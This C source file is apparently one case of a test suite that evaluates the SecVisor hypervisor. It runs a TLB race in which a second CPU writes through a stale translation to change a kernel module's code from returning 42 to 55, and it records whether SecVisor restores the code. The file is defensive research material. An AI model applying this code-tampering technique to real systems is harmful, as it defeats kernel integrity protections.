// Row 15. The second CPU writes without pause by a translation it has in its TLB, while the first runs a module's text for the first time, so that it is approved.
// Source: AMD64 APM 2, 5.5 (TLB): a right that was taken away holds on until it is flushed on every CPU.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"
#include <signal.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

// The aligned word of target_answer in which its result is, 42; the attacker's word, in which it is 55.
static u64 word, right, wrong;

static void find(void)
{
	static const u8 result[] = { 0xb8, 42, 0, 0, 0 };
	u64 at = find_bytes(symbol("target_answer"), 48, result, sizeof(result)) + 1;

	word = at & ~7ull;
	right = kread64(word);
	wrong = right ^ (u64)(42 ^ 55) << 8 * (at & 7);
	keep_bytes(word, 8);
}

// What is there already, for three seconds; then, within the same loop, what is not.
static void write_on(void *alias)
{
	operate(VULNERABLE_STORE, (u64)alias, right, 8);

	struct vulnerable_operation op = { .what = VULNERABLE_TOGGLE,
					   .in = { (u64)alias, right, 3000, wrong, 3000, 1 } };
	try_operate(&op);
}

ATTACK("warm-translation")
{
	u64 result = 0, calls = 0, alias, function;
	time_t start;
	int child;

	insert_module("/modules/target.ko");
	find();
	function = symbol("target_answer");
	alias = map_physical(physical(word), KERNEL_DATA);
	child = on_second_cpu(write_on, (void *)alias);
	usleep(500000);
	for (start = time(NULL); time(NULL) - start < 8; calls++) {
		result = call(function);
		if (result == 55)
			break;
		if (result != 42)
			failed("it returned %llu", (unsigned long long)result);
	}
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	if (result == 55)
		succeeded("after %llu calls the function returned what the second CPU had written", (unsigned long long)calls);
	result = call(function);
	if (result == 42 && kread64(word) == right)
		restored("%llu calls returned 42", (unsigned long long)calls);
	failed("it returned %llu", (unsigned long long)result);
}
